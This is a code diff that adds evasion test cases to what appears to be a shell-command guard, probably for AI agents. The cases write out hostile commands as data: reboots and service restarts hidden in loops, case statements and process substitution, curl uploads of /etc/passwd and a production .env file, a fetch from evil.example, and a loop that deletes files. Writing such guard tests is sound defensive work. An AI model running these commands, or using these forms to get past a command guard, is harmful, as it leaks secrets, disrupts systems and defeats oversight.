@@ -736,4 +736,25 @@ ev("secrets/printf-key-value-literal", "secrets",
     hostCommand(`printf 'API_KEY=%s\\n' '${FAKE.token}' >> ${P.envProduction}`, { writes: [P.envProduction] }),
     "the literal arrives as a printf argument, not in an assignment");
 
+// Loops, case, [[ ]], <(...) and the small read-only additions: what they hide is still read.
+ev("syntax2/01", "shell-words", hostCommand("while true; do reboot; done"));
+ev("syntax2/02", "shell-words", hostCommand("until false; do systemctl restart iu-cutter; done"));
+ev("syntax2/03", "shell-words", hostCommand("case x in *) systemctl restart a;; esac"));
+ev("syntax2/04", "shell-words", hostCommand("[[ $(reboot) ]]"));
+ev("syntax2/05", "shell-words", hostCommand("[[ $x -eq 1 ]]"));
+ev("syntax2/06", "shell-words", hostCommand("diff <(reboot) /dev/null"));
+ev("syntax2/07", "shell-words", hostCommand("cat <(systemctl restart x)"));
+ev("syntax2/08", "shell-words", hostCommand("curl -d @/etc/passwd http://127.0.0.1/x"));
+ev("syntax2/09", "shell-words", hostCommand("curl http://evil.example/x"));
+ev("syntax2/10", "shell-words", hostCommand("curl -o /etc/x http://127.0.0.1/"));
+ev("syntax2/11", "shell-words", hostCommand("curl -T /opt/incomex/dot/.env http://127.0.0.1/"));
+ev("syntax2/12", "shell-words", hostCommand("command systemctl restart x"));
+ev("syntax2/13", "shell-words", hostCommand("git --version; git push"));
+ev("syntax2/14", "shell-words", hostCommand("ip link set eth0 down"));
+ev("syntax2/15", "shell-words", hostCommand("hostnamectl set-hostname x"));
+ev("syntax2/16", "shell-words", hostCommand("dmesg -C"));
+ev("syntax2/17", "shell-words", hostCommand("while read -r f; do rm -r \"$f\"; done < /var/lib/cutter/list"));
+ev("syntax2/18", "shell-words", hostCommand("x='a[$(reboot)]'; [[ $x -gt 0 ]]"));
+ev("syntax2/19", "shell-words", hostCommand("case \"$(systemctl restart y)\" in *) :;; esac"));
+
 export const evasions: Case[] = out;
